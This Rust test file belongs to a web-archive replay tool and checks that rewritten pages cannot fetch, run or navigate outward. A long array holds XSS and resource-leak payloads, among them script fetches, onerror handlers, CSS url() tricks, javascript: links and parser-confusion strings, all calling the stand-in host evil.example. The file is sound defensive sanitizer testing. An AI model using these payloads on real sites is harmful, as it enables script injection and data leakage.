//! Pages that try to reach the network, run, or lead away: what comes out is parsed again and searched.

use replay::{HEADERS, Original, Part, missing, page, sheet};
use scraper::{ElementRef, Html, Selector};
use std::time::Duration;

const VECTORS: &[&str] = &[
    "<script src=https://evil.example/a.js></script>",
    "<script>fetch('https://evil.example')</script>",
    "<ScRiPt\n>new WebSocket('wss://evil.example')</sCrIpT\t>",
    "<script><!--<script>x</script>--><img src=//evil.example></script>",
    "<svg><script href=https://evil.example/a.js /></svg>",
    "<svg><script>fetch('//evil.example')</script></svg>",
    "<img src=https://evil.example/a.png>",
    "<img src='//evil.example/a.png'>",
    "<img src=\"\\\\evil.example\\a.png\">",
    "<IMG SRC=&#104;ttps://evil.example/a.png>",
    "<img srcset='https://evil.example/a.png 1x, //evil.example/b.png 2x'>",
    "<img src=a.png onerror=\"fetch('//evil.example')\" onload=x>",
    "<img src=x lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example>",
    "<img/src=//evil.example/onerror=alert(1)>",
    "<img src=//a.example src=//b.example>",
    "<img crossorigin src=ftp://evil.example/a>",
    "<image src=//evil.example xlink:href=//evil.example>",
    "<picture><source srcset=//evil.example/a.webp><img src=//evil.example/a.png></picture>",
    "<video src=//evil.example/a.mp4 poster=//evil.example/a.png autoplay controls><source src=//evil.example/b>",
    "<audio src=//evil.example/a.mp3 preload=auto></audio><track src=//evil.example/t.vtt>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=preconnect href=https://evil.example>",
    "<link rel='dns-prefetch' href='//evil.example'>",
    "<link rel=preload as=image imagesrcset='//evil.example/a 1x' href=//evil.example>",
    "<link rel=prerender href=//evil.example><link rel=modulepreload href=//evil.example>",
    "<link rel=icon href=//evil.example/favicon.ico><link rel=manifest href=//evil.example/m>",
    "<base href=https://evil.example/><img src=a.png><a href=b>x</a>",
    "<base target=_top><a href=//evil.example target=_blank ping=//evil.example download>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=content-security-policy content=\"img-src *\">",
    "<meta http-equiv='x-dns-prefetch-control' content=on><meta name=referrer content=unsafe-url>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<img src='//evil.example'>\"></iframe>",
    "<iframe><img src=//evil.example></iframe>",
    "<frameset><frame src=//evil.example><noframes><img src=//evil.example></noframes></frameset>",
    "<object data=//evil.example/a.swf codebase=//evil.example classid=//evil.example><embed src=//evil.example></object>",
    "<applet code=a.class archive=//evil.example codebase=//evil.example></applet>",
    "<embed src=//evil.example/a.svg type=image/svg+xml>",
    "<form action=//evil.example method=post><button formaction=//evil.example>go</button><input type=image src=//evil.example></form>",
    "<isindex action=//evil.example prompt=x><keygen>",
    "<body background=//evil.example/a.png onload=x><table background=//evil.example><td background=//evil.example>",
    "<html manifest=//evil.example/a.appcache>",
    "<style>@import url(//evil.example/a.css); body{background:url(https://evil.example/a.png)}</style>",
    "<style>@import '//evil.example/a.css' screen;</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/a.woff2)}</style>",
    "<style>a{background:image-set('//evil.example/a.png' 1x)}b{background:-webkit-image-set(url(//evil.example) 1x)}</style>",
    "<style>a{background:\\75\\72\\6c(//evil.example)}b{cursor:u\\rl('//evil.example'),auto}</style>",
    "<style>a{list-style:url(//evil.example)}b:before{content:url(//evil.example)}c{src:src('//evil.example')}</style>",
    "<style>a{--u:url(//evil.example);background:var(--u)}d{background:image('//evil.example')}</style>",
    "<style>a{b:'\n;background:url(//evil.example)}</style>",
    "<style>/* </style><img src=//evil.example>",
    "<style><!-- a{background:u<!--rl(//evil.example)} --></style>",
    "<style>a{content:'</style><img src=//evil.example>'}</style>",
    "<svg><style>&#97;{background:&#117;rl(//evil.example)}<img src=//evil.example></style></svg>",
    "<svg><style><![CDATA[ a{fill:url(//evil.example#a)} ]]></style></svg>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style=\"background:u&#114;l(&quot;https://evil.example&quot;)\">x</p>",
    "<p style='behavior:url(//evil.example);-moz-binding:url(//evil.example)'>x</p>",
    "<a href=javascript:alert(1)>x</a><a href='&#1;java&#9;script:alert(1)'>x</a>",
    "<a href=data:text/html,<script>x</script>>x</a><a href='vbscript:x'>x</a><a href=blob:x>x</a>",
    "<svg><a xlink:href=//evil.example><text>x</text></a><image href=//evil.example xlink:href=//evil.example /></svg>",
    "<svg><use href=//evil.example/a.svg#x /><use xlink:href='//evil.example#x'/><feImage href=//evil.example /></svg>",
    "<svg><animate attributeName=href values=//evil.example /><set attributeName=href to=//evil.example /></svg>",
    "<svg fill=url(//evil.example#a) filter='url(&quot;//evil.example&quot;)' mask=u\\72l(//evil.example)><path marker-end=url(//evil.example) /></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe><img src=//evil.example></foreignObject></svg>",
    "<math href=//evil.example xlink:href=//evil.example><mi>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=//evil.example></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=//evil.example></annotation-xml></math>",
    "<noscript><img src=//evil.example></noscript><noscript><p title='</noscript><img src=//evil.example>'></noscript>",
    "<noembed><img src=//evil.example></noembed><xmp><img src=//evil.example></xmp>",
    "<template><img src=//evil.example></template><div><template shadowrootmode=open><img src=//evil.example></template></div>",
    "<textarea></textarea><img src=//evil.example></textarea><title></title><img src=//evil.example></title>",
    "<svg><title><img src=//evil.example></title><desc><img src=//evil.example></desc></svg>",
    "<select><option><img src=//evil.example></option></select>",
    "<!--[if IE]><img src=//evil.example><![endif]--><!--><img src=//evil.example>-->",
    "<![CDATA[<img src=//evil.example>]]><?php <img src=//evil.example> ?>",
    "<p data-x='\"><img src=//evil.example>' title='\"><img src=//evil.example>' alt=`><img src=//evil.example>`>",
    "<<img src=//evil.example>><a<b href=//evil.example></a\u{0}b><\u{0}img src=//evil.example>",
    "<img src=//evil.example",
    "<div\u{c}onclick=x\u{b}style=background:url(//evil.example)>",
    "<a href=https://evil.example attributionsrc=//evil.example>x</a><img attributionsrc=//evil.example>",
    "<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>",
    "<div itemid=//evil.example itemtype=//evil.example cite=//evil.example><blockquote cite=//evil.example>",
    "<input type=image src=//evil.example><input type='IMAGE ' src=//evil.example>",
    "<bgsound src=//evil.example><basefont face=x><listing><img src=//evil.example></listing>",
    "<map><area href=//evil.example ping=//evil.example></map><img usemap=//evil.example#m>",
    "<video src=//evil.example/a><track src=//evil.example/t.vtt kind=captions default onload=x></video>",
    "<video><track src=javascript:x><track src='data:text/vtt,x'></video>",
    "<div data-bg=//evil.example/a.png onclick=x>x</div><p data-bg='\");b:url(//evil.example' style=color:red>x</p>",
    "<div class=lazy data-background-image=\"url('//evil.example/a.png');c:url(//evil.example)\" style='d:url(blank.gif);e:url(//evil.example)'>x</div>",
    "<plaintext><img src=//evil.example>",
    "<x-card src=//evil.example href=//evil.example style='background:url(//evil.example)'>x</x-card>",
];

/// The only attributes whose value may name a place outside: nothing fetches them.
const WORDS: &[&str] = &["title", "data-href", "alt", "value", "placeholder", "class", "id", "name"];
const GONE: &[&str] = &[
    "script",
    "base",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "noscript",
    "noembed",
    "noframes",
    "template",
    "animate",
    "set",
    "portal",
    "fencedframe",
    "area",
    "feImage",
    "xmp",
    "plaintext",
    "param",
    "bgsound",
];

/// Where every part of the page stands, where all are there.
const HERE: &str = "/capture/1/part/2";

fn original(html: &str) -> Original<'_> {
    let url = Some("https://page.example/a/");
    Original { bytes: html.as_bytes(), media_type: Some("text/html"), url, ..Original::default() }
}

/// The page with nothing that it refers to.
fn shown(html: &str) -> String {
    String::from_utf8(page(original(html), &|_, _| None)).expect("UTF-8")
}

/// The page with everything that it refers to.
fn complete(html: &str) -> String {
    String::from_utf8(page(original(html), &|_, _| Some(HERE.into()))).expect("UTF-8")
}

/// Every way in which the page, as a browser's parser reads it, could still reach out.
fn ways_out(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let read = Html::parse_document(html);
    for element in read.root_element().descendants().filter_map(ElementRef::wrap) {
        let name = element.value().name();
        if GONE.contains(&name) {
            found.push(format!("<{name}>"));
        }
        if name == "meta" && element.attr("http-equiv").is_some() {
            found.push("<meta http-equiv>".into());
        }
        if name == "iframe" && element.attr("sandbox") != Some("") {
            found.push("<iframe> without its lock".into());
        }
        if name == "link" && !matches!(element.attr("rel"), Some("stylesheet" | "icon")) {
            found.push(format!("<link rel={:?}>", element.attr("rel")));
        }
        if name == "style" {
            found.extend(addresses(&element.text().collect::<String>()));
        }
        for (attribute, value) in element.value().attrs() {
            let fetched = match attribute {
                "href" | "xlink:href" => !(value.starts_with('#') || name != "a" && value.starts_with(HERE)),
                "src" | "poster" | "background" => {
                    !value.starts_with("data:image/") && !value.starts_with(HERE)
                }
                "srcset" => value.split(", ").any(|candidate| !candidate.starts_with(HERE)),
                "srcdoc" => {
                    found.extend(ways_out(value));
                    false
                }
                "style" | "fill" | "stroke" | "filter" | "mask" | "marker-end" => {
                    !addresses(value).is_empty()
                }
                "method" => value != "dialog",
                _ if attribute.starts_with("on") => true,
                _ if WORDS.contains(&attribute) => false,
                _ => value.contains("//") || value.contains(":/"),
            };
            if fetched {
                found.push(format!("{name} {attribute}={value}"));
            }
        }
    }
    found
}

/// The addresses in a style sheet, found bluntly: escapes undone, then every `url(` and every fetching function.
/// Strings of our own writing hold neither quotes nor line breaks; one that no `url(` stands before is only words.
fn addresses(sheet: &str) -> Vec<String> {
    let mut words = String::new();
    for (at, piece) in sheet.split('"').enumerate() {
        if at % 2 == 0 || words.ends_with("url(") {
            // Whatever follows the fragment of a part is no style.
            words.push_str(if at % 2 == 1 && piece.starts_with(HERE) { HERE } else { piece });
        }
    }
    let mut plain = String::new();
    let mut rest = words.as_str();
    while let Some(at) = rest.find('\\') {
        plain.push_str(&rest[..at]);
        let digits = rest[at + 1..].bytes().take(6).take_while(u8::is_ascii_hexdigit).count();
        let number = u32::from_str_radix(&rest[at + 1..at + 1 + digits], 16).ok();
        // Any other escaped character is a part of a name.
        let letter = number.and_then(char::from_u32).filter(char::is_ascii_alphanumeric);
        plain.push(letter.unwrap_or(char::REPLACEMENT_CHARACTER));
        rest = rest[at + 1 + digits..].strip_prefix(' ').unwrap_or(&rest[at + 1 + digits..]);
    }
    plain.push_str(rest);
    let plain = plain.to_ascii_lowercase();
    let called =
        plain.match_indices("url(").map(|(at, _)| plain[at + 4..].trim_start_matches(['"', '\'', ' ']));
    let mut found: Vec<String> = called
        .filter(|address| ["data:", "#", HERE].iter().all(|safe| !address.starts_with(safe)))
        .map(|address| address.chars().take(40).collect())
        .collect();
    let name_ends =
        |at: &usize| !plain[at + 7..].starts_with(|c: char| c.is_alphanumeric() || "-_\u{fffd}".contains(c));
    let imports = plain.match_indices("@import").filter(|(at, _)| name_ends(at));
    let away = imports.filter(|(at, _)| !plain[at + 7..].starts_with(&format!(" url({HERE}")));
    found.extend(away.map(|(_, it)| it.to_owned()));
    for function in ["src(", "image("] {
        let lively =
            |at: &usize| !plain[..*at].ends_with("dead-") && !plain[..*at].ends_with("dead--webkit-");
        found.extend(plain.match_indices(function).filter(|(at, _)| lively(at)).map(|(_, it)| it.to_owned()));
    }
    // A bare string in a set of pictures is an address.
    for (at, _) in sheet.match_indices("image-set(") {
        let set = sheet[at + 10..].split(')').next().unwrap_or_default();
        let bare = |at: &usize| !set[..*at].ends_with("url(") && !set[..*at].ends_with("type(");
        let opening = set.match_indices('"').step_by(2).map(|(at, _)| at).find(bare);
        found.extend(opening.map(|_| format!("image-set({set})")));
        found.extend(set.contains("var(").then(|| set.to_owned()).filter(|it| !it.contains("dead-var(")));
    }
    found
}

#[test]
fn no_page_reaches_out_of_the_archive() {
    assert!(VECTORS.len() >= 60);
    let mut leaks = Vec::new();
    for vector in VECTORS {
        for html in [shown(vector), complete(vector)] {
            leaks.extend(
                ways_out(&html).into_iter().map(|way| format!("{vector}\n  → {html}\n  leaks {way}")),
            );
        }
        // The same inside other contexts, where parsers switch their rules.
        for around in [
            "<svg>",
            "<math><mtext>",
            "<table><tr>",
            "<select>",
            "<title>",
            "<style>",
            "<noscript>",
            "<p title='",
            "<!--",
        ] {
            let html = complete(&format!("{around}{vector}"));
            leaks.extend(
                ways_out(&html).into_iter().map(|way| format!("{around}{vector}\n  → {html}\n  leaks {way}")),
            );
        }
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

#[test]
fn no_file_of_drawings_reaches_out_of_the_archive() {
    let icon = "<svg><use href=a.svg#x /></svg>";
    let mut leaks = Vec::new();
    for vector in VECTORS {
        for file in [
            format!("<svg><symbol id=x>{vector}</symbol></svg>"),
            format!("<g id=x></svg></g>{vector}<g id=x>{vector}"),
        ] {
            let there = |_: &str, kind| Some(if kind == Part::Drawings { file.clone() } else { HERE.into() });
            let html = String::from_utf8(page(original(icon), &there)).expect("UTF-8");
            assert!(html.contains("id=\"drawing--1\""), "{html}");
            leaks.extend(ways_out(&html).into_iter().map(|way| format!("{file}\n  → {html}\n  leaks {way}")));
        }
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
}

#[test]
fn pieces_of_hostile_pages_in_any_order_neither_leak_nor_panic() {
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move |below: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % below as u64).expect("small")
    };
    let pieces = [
        "<",
        ">",
        "\"",
        "'",
        "`",
        "/",
        "=",
        "&",
        "\\",
        "\0",
        "é",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "</",
        "style",
        "svg",
        "<style>",
        "</style>",
        "<svg>",
        "</svg>",
        "<math>",
        "<title>",
        "</title>",
        "<img src=//evil.example>",
        " src=",
        "//evil.example",
        "url(",
        ")",
        "@import",
        "&#117;rl(",
        "\\75 rl(",
        "<script>",
        "</script>",
        "<p style='",
        ";",
        "\n",
        "<a href=",
        "javascript:",
        "<template>",
        "</template>",
        "<noscript>",
        "<xmp>",
        "<textarea>",
        "{",
        "}",
        "/*",
        "*/",
    ];
    for _ in 0..4_000 {
        let html: String = (0..next(24)).map(|_| pieces[next(pieces.len())]).collect();
        for out in [shown(&html), complete(&html)] {
            let leaks = ways_out(&out);
            assert!(leaks.is_empty(), "{html:?}\n → {out}\n leaks {leaks:?}");
        }
    }
    for _ in 0..2_000 {
        let bytes: Vec<u8> = (0..next(200)).map(|_| next(256) as u8).collect();
        assert!(!page(Original { bytes: &bytes, ..Original::default() }, &|_, _| None).is_empty());
    }
}

/// The time that this thread has worked, however busy the machine is with other things.
#[cfg(unix)]
fn spent() -> Duration {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    Duration::new(time.tv_sec.unsigned_abs(), time.tv_nsec as u32)
}

#[cfg(not(unix))]
fn spent() -> Duration {
    static START: std::sync::LazyLock<std::time::Instant> = std::sync::LazyLock::new(std::time::Instant::now);
    START.elapsed()
}

#[test]
fn a_megabyte_of_anything_takes_no_longer_than_its_length() {
    let mebi = 1 << 20;
    let towers = [
        "<div>".repeat(mebi / 5),
        "<ul><li>".repeat(mebi / 8),
        "<svg>".repeat(mebi / 5),
        "<template>".repeat(mebi / 10),
        "<".repeat(mebi),
        "</".repeat(mebi / 2),
        "<!--".repeat(mebi / 4),
        "<![CDATA[".repeat(mebi / 9),
        "<style>".repeat(mebi / 7),
        "<script></scrip".repeat(mebi / 15),
        "<svg><style>a".repeat(mebi / 13),
        "<a href='".repeat(mebi / 9),
        "&amp".repeat(mebi / 4),
        format!("<p {}>", (0..mebi / 8).map(|n| format!("a{n:x} ")).collect::<String>()),
        format!("<p {}>", "data-a=1 ".repeat(mebi / 9)),
        format!("<p style='{}'>", "url(".repeat(mebi / 4)),
        format!("<style>{}</style>", "@import (".repeat(mebi / 9)),
        format!("<style>{}</style>", "/*".repeat(mebi / 2)),
        format!("<style>{}</style>", "\\".repeat(mebi)),
        format!("<style>{}</style>", "a{b:url('".repeat(mebi / 9)),
        format!("<a title='{}' href=x>", "&#x26;".repeat(mebi / 6)),
        format!("<base href='//x/{}'>{}", "a".repeat(4000), "<a href=b>".repeat(mebi / 10)),
        format!("<img srcset='{}'>", "a 1x,".repeat(mebi / 5)),
        format!("<img srcset='{}'>", ", ".repeat(mebi / 2)),
        format!("<img srcset='a 1w' sizes='{}'>", "(".repeat(mebi)),
        format!("<img srcset='a 1w' sizes='{}'>", "calc(1px + ".repeat(mebi / 11)),
        format!("<img srcset='a 1w' sizes='{}'>", "(a) and ,".repeat(mebi / 9)),
        "<picture><source srcset=a>".repeat(mebi / 26),
        "<iframe srcdoc='".repeat(mebi / 16),
        "<iframe srcdoc='<iframe srcdoc=x>'>".repeat(mebi / 35),
        "<img data-src=a><noscript>".repeat(mebi / 26),
        format!("<style>{}</style>", "@font-face{src:url(a)".repeat(mebi / 21)),
        format!("<style>{}</style>", "@import url(a) ".repeat(mebi / 15)),
        format!("<style>{}</style>", "image-set(".repeat(mebi / 10)),
        format!("<style>@font-face{{src:{}}}</style>", "url(a)                ".repeat(mebi / 22)),
    ];
    for tower in &towers {
        let start = spent();
        complete(tower);
        let took = spent() - start;
        assert!(took < Duration::from_secs(2), "{took:?} for {}…", &tower[..20]);
    }
}

#[test]
fn the_page_keeps_its_words_its_shape_and_where_its_links_led() {
    let html = shown(
        "<!DOCTYPE html><html lang=en class=news><head><meta charset=windows-1251><title>A &amp; B</title>\
         <style>p{color:#333}</style></head><body><h1 class=t id=top>Head</h1>\
         <p style='margin:0 2px' onclick=x>Words &mdash; <a class=more href='../b?x=1&amp;y=2'>more</a> <a href=#top>up</a></p>\
         <img src=/a.jpg alt='A bridge' width=640 height=360><img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>\
         <iframe src=/video width=560 height=315></iframe><noscript>plain</noscript></body></html>",
    );
    assert!(html.starts_with("<!DOCTYPE html><meta charset=\"utf-8\">"));
    let read = Html::parse_document(&html);
    let one = |selector: &str| {
        let selector = Selector::parse(selector).expect("a selector");
        read.select(&selector).next().unwrap_or_else(|| panic!("{selector:?} in {html}"))
    };
    assert_eq!(one("html").attr("class"), Some("news"));
    assert_eq!(one("title").inner_html(), "A &amp; B");
    assert_eq!(one("h1#top.t").inner_html(), "Head");
    assert_eq!(one("p").attr("style"), Some("margin:0 2px"));
    assert!(one("p").text().collect::<String>().starts_with("Words — more up"));
    assert_eq!(one("a.more").attr("href"), Some("#https://page.example/b?x=1&y=2"));
    assert_eq!(one("a.more").attr("data-href"), Some("https://page.example/b?x=1&y=2"));
    assert_eq!(one("a.more").attr("title"), Some("https://page.example/b?x=1&y=2"));
    assert_eq!(one("a:not([data-href])").attr("href"), Some("#top"));
    assert_eq!((one("img").attr("alt"), one("img").attr("width")), (Some("A bridge"), Some("640")));
    assert_eq!(one("img[width='560']").attr("height"), Some("315"));
    assert!(html.contains("R0lGODlhAQABAAAAACw="), "a picture inside the page stays");
    assert!(html.contains("plain"));
}

#[test]
fn a_text_is_shown_as_text() {
    let bytes = "05:49 GMT\n\n<script>x</script> & “words”".as_bytes();
    let html = Original { bytes, media_type: Some("text/plain"), ..Original::default() };
    let html = String::from_utf8(page(html, &|_, _| None)).expect("UTF-8");
    let read = Html::parse_document(&html);
    let shown = read.select(&Selector::parse("pre").expect("a selector")).next().expect("a pre");
    assert_eq!(shown.text().collect::<String>(), "05:49 GMT\n\n<script>x</script> & “words”");
    assert!(ways_out(&html).is_empty());
}

#[test]
fn a_sheet_says_no_more_than_a_page_s_own_styles() {
    for vector in VECTORS {
        let css =
            vector.split("<style>").nth(1).and_then(|rest| rest.split("</style>").next()).unwrap_or(vector);
        let written = sheet(css.as_bytes(), None, "https://page.example/a.css", &|_, _| Some(HERE.into()));
        assert_eq!(addresses(&String::from_utf8(written).expect("UTF-8")), Vec::<String>::new(), "{css}");
    }
}

#[test]
fn every_answer_says_that_nothing_may_be_fetched_or_run() {
    let value = |name: &str| HEADERS.iter().find(|(it, _)| *it == name).expect(name).1;
    let policy = value("Content-Security-Policy");
    for part in [
        "default-src 'none'",
        "script-src 'none'",
        "frame-src archive:;",
        "form-action 'none'",
        "base-uri 'none'",
    ] {
        assert!(policy.contains(part), "{part}");
    }
    assert!(policy.ends_with("; sandbox"), "a sandbox with no token");
    assert!(!policy.contains("http") && !policy.contains('*'));
    assert_eq!(value("X-Content-Type-Options"), "nosniff");
    assert_eq!(value("Referrer-Policy"), "no-referrer");
    let page = String::from_utf8(missing("Nothing was <saved>.")).expect("UTF-8");
    assert!(page.contains("Nothing was &lt;saved&gt;.") && ways_out(&page).is_empty());
}
